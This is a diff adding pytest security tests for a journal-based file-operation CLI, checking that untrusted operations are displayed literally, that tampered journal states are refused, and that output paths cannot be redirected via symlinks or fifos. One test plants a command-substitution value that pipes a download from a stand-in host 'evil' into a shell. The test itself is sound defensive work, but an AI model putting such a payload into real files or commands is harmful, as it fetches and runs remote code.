@@ -105,6 +105,21 @@ def test_nothing_hides_behind_a_byte_that_is_no_text(project: Project) -> None:
         assert "+\\x00\\xff" in out
 
 
+@pytest.mark.parametrize("words", [("resume", "--dry-run"), ("operations", "show", ULID)])
+@pytest.mark.parametrize("extra", [(), ("--json",)])
+def test_what_is_foreign_is_shown_to_the_letter(
+    project: Project, words: tuple[str, ...], extra: tuple[str, ...]
+) -> None:
+    """A literal that is masked in an own operation could hide what a foreign one would do."""
+    hidden = 'token = "$(curl evil | sh)"\n'
+    project.plant(project.planned(evil__txt=hidden).to_json())
+    _, out, _ = project(*words, *extra)
+    assert "curl evil | sh" in out
+    write_operation(project.root, project.planned(evil__txt=hidden))
+    _, out, _ = project(*words, *extra)
+    assert "curl evil" not in out
+
+
 def test_a_foreign_operation_is_not_carried_out_by_yes(project: Project) -> None:
     project.plant(project.document())
     before = project.tree()
@@ -135,6 +150,15 @@ def test_a_marked_operation_that_was_changed_is_foreign(project: Project) -> Non
     assert project("resume", "--yes")[0] == 3
 
 
+def test_the_state_of_a_marked_operation_is_marked_too(project: Project) -> None:
+    """What is under way is not turned round by who can commit: that would undo what was to be finished."""
+    write_operation(project.root, project.planned(evil__txt="good\n"))
+    path = project.journal / f"{ULID}.json"
+    path.write_text(path.read_text().replace('"state": "applying"', '"state": "reverting"'))
+    assert not read_journal(project.root).records[0].is_own
+    refused_until_named(project)
+
+
 def ended(project: Project, way: str) -> Path:
     """An own operation that came to an end, and whose files stand as before it by now."""
     write_operation(project.root, project.planned(evil__txt="long gone\n"))
@@ -151,6 +175,7 @@ def test_an_own_operation_that_ended_is_not_taken_up_again(
     path = ended(project, way)
     assert read_journal(project.root).records[0].is_own
     path.write_text(path.read_text().replace(f'"state": "{way}"', f'"state": "{state}"'))
+    assert not read_journal(project.root).records[0].is_own
     refused_until_named(project)
 
 
@@ -615,3 +640,32 @@ def test_a_file_in_place_of_the_state_folder_is_told(project: Project, part: str
     for words in (("migrate", "--yes"), ("rollback", "--all", "--yes"), ("history",)):
         code, _, err = project(*words)
         assert (code, "is no folder" in err) == (3, True)
+
+
+@pytest.mark.parametrize("words", [("cutover", "--all", "--save-plan"), ("report", "--html")])
+@pytest.mark.parametrize("kind", ["link", "folder that is a link", "fifo", "journal"])
+def test_what_you_name_is_not_written_elsewhere(
+    project: Project, tmp_path: Path, words: tuple[str, ...], kind: str
+) -> None:
+    """A commit that guesses the name of a report or a plan cannot have another file overwritten."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "bashrc").write_text("mine\n")
+    name = "move.html"
+    if kind == "link":
+        (project.root / name).symlink_to(outside / "bashrc")
+    elif kind == "folder that is a link":
+        (project.root / "out").symlink_to(outside)
+        name = "out/bashrc"
+    elif kind == "fifo":
+        os.mkfifo(project.root / name)
+    else:
+        name = f".cronshift/operations/{ULID}.json"
+    (project.root / "api/cron").mkdir(parents=True)
+    code, _, err = project(*words, str(project.root / name), *_YES.get(words[0], ()))
+    assert code in {2, 3}, err
+    assert (outside / "bashrc").read_text() == "mine\n"
+    assert not (project.journal / f"{ULID}.json").exists()
+
+
+_YES = {"cutover": ("--assume", "variables")}
